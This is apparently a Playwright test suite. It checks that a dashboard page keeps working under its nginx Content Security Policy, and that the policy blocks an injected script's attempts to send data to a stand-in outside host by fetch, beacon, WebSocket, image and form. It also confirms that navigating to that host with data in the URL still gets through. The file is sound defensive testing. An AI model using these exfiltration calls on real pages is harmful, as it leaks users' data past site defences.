"""The page works under the content security policy that ``deploy/nginx.conf`` sends with it."""

from __future__ import annotations

import json
import re
import time

import pytest
from playwright.sync_api import expect
from standins import another_host

from .conftest import ROOT, watching
from .header_proxy import adding
from .test_events_page import TOTAL, figure, open_page

POLICY = re.search(
    r'add_header (Content-Security-Policy) "([^"]+)" always;',
    (ROOT / "deploy" / "nginx.conf").read_text(encoding="utf-8"),
)


@pytest.fixture(scope="module")
def guarded(app):
    with adding(f"{POLICY[1]}: {POLICY[2]}", app) as address:
        yield address


def test_map_filters_export_and_card_work_under_the_policy(guarded, browser):
    with watching(browser) as watched:  # which fails over what the policy would block
        page = watched.page
        open_page(page, f"{guarded}/?region=UA:Sumy Oblast&status=claimed")
        expect(figure(page, "Events")).to_have_text("5")
        page.get_by_role("button", name="Export").click()
        with page.expect_download() as waiting:
            page.get_by_role("button", name="GeoJSON", exact=True).click()
        assert len(json.loads(waiting.value.path().read_bytes())["features"]) == 5
        page.keyboard.press("Escape")
        page.get_by_role("button", name="clear all").click()
        expect(figure(page, "Events")).to_have_text(str(TOTAL))
        expect(page.locator("[data-testid=stVegaLiteChart] :is(canvas, svg)").first).to_be_visible()
        page.goto(f"{guarded}/article")
        expect(page.get_by_label("Text")).to_be_visible()
        page.goto(f"{guarded}/review")
        expect(page.locator(".kit, [data-testid=stBidiComponentIsolated]").first).to_be_attached()


@pytest.fixture
def elsewhere():
    """Stands for another host; gives its address and what was asked of it."""
    with another_host() as (address, lines):
        # Nothing where Chromium only opens a line ahead.
        yield address, lambda: [line.split(b" ")[1] for line in lines if line]


def test_the_policy_stops_what_sends_in_silence_but_no_going_away(guarded, browser, elsewhere):
    """A script that got in cannot fetch, load or post elsewhere; leave with what it read it can."""
    address, reached = elsewhere
    context = browser.new_context()  # no watched one: what is blocked here is said in its console
    page = context.new_page()
    page.goto(guarded)
    blocked = page.evaluate(
        """async address => {
          const seen = [];
          addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
          await fetch(address + "/fetched").catch(() => {});
          navigator.sendBeacon(address + "/beacon", "words");
          try { new WebSocket(address.replace("http", "ws") + "/socket"); } catch { }
          const picture = new Image();
          picture.src = address + "/picture";
          const form = document.createElement("form");
          form.action = address + "/form";
          document.body.append(picture, form);
          form.submit();
          const end = Date.now() + 30000;
          while (!["connect-src", "img-src", "form-action"].every(kind => seen.includes(kind))
              && Date.now() < end) await new Promise(done => setTimeout(done, 20));
          return seen;
        }""",
        address,
    )
    assert {"connect-src", "img-src", "form-action"} <= set(blocked)
    assert reached() == []
    page.evaluate("address => { location.href = address + '/gone?words'; }", address)
    end = time.monotonic() + 30
    while not reached() and time.monotonic() < end:
        page.wait_for_timeout(20)  # an answer without content leaves the page where it was
    context.close()
    assert set(reached()) == {b"/gone?words"}  # docs/security.md says so; no policy can stop it
